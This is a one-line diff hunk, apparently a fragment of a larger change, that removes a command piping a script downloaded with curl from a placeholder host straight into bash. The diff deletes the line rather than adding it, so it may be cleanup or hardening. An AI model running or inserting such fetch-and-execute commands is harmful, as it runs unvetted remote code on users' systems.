@@ -1,1 +1,0 @@
-bash <(curl -s https://example.com/i.sh)
